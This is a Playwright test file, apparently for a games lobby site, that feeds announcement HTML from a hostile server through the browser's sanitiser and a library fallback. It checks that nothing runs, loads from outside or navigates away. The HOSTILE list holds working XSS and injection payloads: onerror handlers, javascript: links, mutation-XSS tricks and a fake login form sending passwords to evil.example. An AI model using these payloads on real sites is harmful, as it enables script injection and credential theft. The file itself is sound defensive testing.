import type { Page } from '@playwright/test'
import { alterValue } from '../lib/alterValue.ts'
import { axe } from '../lib/axe.ts'
import { expect, test } from '../lib/fixtures.ts'
import type { Lobby } from '../lib/lobby.ts'

declare global {
  interface Window {
    /** There as soon as a page let foreign code run. */
    __pwned?: unknown
  }
}

/** What a broken or bought backend may send; each would set `__pwned`, call out, or change the page, if it were let. */
const HOSTILE = [
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned = 1">',
  '<img src="https://evil.example/pixel.png">',
  '<img srcset="https://evil.example/set.png 1x" src="//evil.example/a.png">',
  '<svg onload="window.__pwned = 1"><image href="https://evil.example/svg.png"/></svg>',
  '<svg><style><img src=x onerror=window.__pwned=1></style></svg>',
  '<iframe srcdoc="<script>parent.__pwned = 1</script>"></iframe>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/i.css"; body { display: none }</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/bg.png)">styled words</p>',
  '<form action="https://evil.example/steal"><input name="password"><button>Log in again</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<a href="javascript:window.__pwned = 1">tap me 1</a>',
  '<a href="jav&#x09;ascript:window.__pwned = 1">tap me 2</a>',
  '<a href="data:text/html,<script>opener.__pwned = 1</script>">tap me 3</a>',
  '<a href="https://evil.example/phish" target="_blank">tap me 4</a>',
  '<a href="/m/../../..//evil.example">tap me 5</a>',
  '<a href="https://user:pw@chat.mock.example/">tap me 6</a>',
  '<details open ontoggle="window.__pwned = 1">d</details>',
  '<video src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3"></audio>',
  '<div id="root" class="_abc" name="cookie" data-x="1">clobber</div>',
  '<template><img src=x onerror="window.__pwned = 1"></template>',
  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>"></noscript>',
  '<a id="merchant" name="merchant" href="clobber:1">named</a>',
  '<button onclick="window.__pwned = 1" autofocus onfocus="window.__pwned = 1">press</button>',
  '<b onpointerenter="window.__pwned = 1" contenteditable>hover</b>',
  // Swallows whatever follows.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__pwned=1&gt;">',
].join('\n')

const FRIENDLY =
  '<h3>Rules</h3><p>Read <strong>these</strong> <a href="/m/help">rules</a>.</p><ul><li>one</li></ul>' +
  '<table><tr><th>Day</th><td>Prize</td></tr></table><img src="/art/icon.svg" alt="Prize">' +
  '<section><font size="7">Big <center>words</center></font> in a <article>frame of their own.</article></section>'

/** Puts HTML into every announcement of every kind. */
async function announce(page: Page, html: string) {
  const fill = (list: unknown) => (Array.isArray(list) ? list.map((each: object) => ({ ...each, content: html })) : list)
  await alterValue(page, '**/wps/announcement**', (value) =>
    Array.isArray(value) ? fill(value) : { ...value, PU: fill(value.PU), PL: fill(value.PL) },
  )
}

const pwned = (page: Page) => page.evaluate(() => window.__pwned)

/**
 * The sanitiser reads a text in a document of its own, where nothing runs or loads; that document keeps the page's policy,
 * and the browser writes down whatever the policy would have stopped there, too.
 */
const fromTheReading = /(console: .*|policy: .*)\/assets\/(serverHtml|purify)-/

/** Touches everything that could be touched in an element. */
async function touchAll(page: Page, inside: string) {
  for (const link of await page.locator(`${inside} :is(a, b, p, div, span)`).all()) {
    await link.hover({ timeout: 1_000 }).catch(() => undefined)
    await link.click({ timeout: 1_000, noWaitAfter: true }).catch(() => undefined)
  }
}

const allowed = (url: string, site: string) => url.startsWith(site) || url.startsWith('data:') || url === 'about:blank'

/** Nothing of the HTML ran, loaded or led away, and it was read by whom the test is about. */
async function expectNothingDone(page: Page, lobby: Lobby, isByLibrary: boolean) {
  const { requested } = lobby.watched
  expect(await pwned(page)).toBeUndefined()
  const opened = page
    .context()
    .pages()
    .map((each) => each.url())
  expect([...requested, ...opened].filter((url) => !allowed(url, lobby.url))).toEqual([])
  expect(requested.some((url) => url.includes('/assets/purify-'))).toBe(isByLibrary)
}

/** Who reads the HTML: the browser's own sanitiser, or the library where there is none. */
const READERS = [
  { reader: 'the browser', isByLibrary: false },
  { reader: 'the library', isByLibrary: true },
]
const takeSanitiser = () => void Reflect.deleteProperty(Document, 'parseHTML')

for (const { reader, isByLibrary } of READERS)
  test.describe(`HOME-09 HTML of a hostile server, read by ${reader}`, () => {
    test.use({ popups: true })

    test.beforeEach(async ({ page }) => {
      if (isByLibrary) await page.addInitScript(takeSanitiser)
    })

    test('in an announcement runs nothing, calls nobody and keeps to its place', async ({ lobby, page }) => {
      lobby.expectComplaint(fromTheReading)
      await announce(page, HOSTILE)
      await page.goto('/m/notice')
      const first = page.getByRole('group').first()
      await expect(first).toContainText('styled words')
      const forbidden =
        'script,style,iframe,object,embed,link,form,input,svg,math,video,audio,base,meta,template,button,[style],[class=_abc],[id=root] [id]'
      expect(await page.locator('main details [dir=auto]').locator(forbidden).count()).toBe(0)
      await touchAll(page, 'main details [dir=auto]')
      await expect(page).toHaveURL(/\/m\/notice$/)
      await expectNothingDone(page, lobby, isByLibrary)
    })

    test('in a popup runs nothing, calls nobody and keeps to its place', async ({ lobby, page }) => {
      lobby.expectComplaint(fromTheReading)
      await announce(page, HOSTILE)
      await lobby.logIn()
      const popup = page.getByRole('dialog', { name: 'Weekend tournament' })
      await expect(popup).toContainText('styled words')
      await touchAll(page, '[role=dialog] [dir=auto]')
      await expect(popup).toBeVisible()
      await expectNothingDone(page, lobby, isByLibrary)
    })
  })

for (const { reader, isByLibrary } of READERS)
  test(`HOME-02 the announcements tell their texts, and their links stay in the lobby, read by ${reader}`, async ({
    lobby: _,
    page,
  }) => {
    if (isByLibrary) await page.addInitScript(takeSanitiser)
    await announce(page, FRIENDLY)
    await page.goto('/m/notice')
    const first = page.getByRole('group').first()
    await expect(first.getByRole('heading', { name: 'Rules' })).toBeVisible()
    await expect(first.getByRole('img', { name: 'Prize' })).toBeVisible()
    await expect(first.getByRole('table')).toContainText('Prize')
    await expect(first.locator('[dir=auto]').last()).toContainText('Big words in a frame of their own.')
    await axe(page)
    const others = page.getByRole('group')
    await expect(others).toHaveCount(4)
    await expect(others.nth(1)).not.toContainText('rules')
    await others.nth(1).getByText('Forty new games this week').click()
    await expect(others.nth(1)).toContainText('Read these rules.')
    await page.evaluate(() => Object.assign(window, { stays: true }))
    await first.getByRole('link', { name: 'rules' }).click()
    await expect(page).toHaveURL(/\/m\/help$/)
    expect(await page.evaluate(() => 'stays' in window)).toBe(true)
  })

test('HOME-02 an announcement without a text is only its title', async ({ lobby: _, page }) => {
  await announce(page, '<p>&nbsp;</p><script>1</script>')
  await page.goto('/m/notice')
  const first = page.getByRole('group').first()
  await expect(first).toContainText('Maintenance of Jolly Games')
  await expect(first.locator('[dir=auto]')).toHaveCount(1)
})
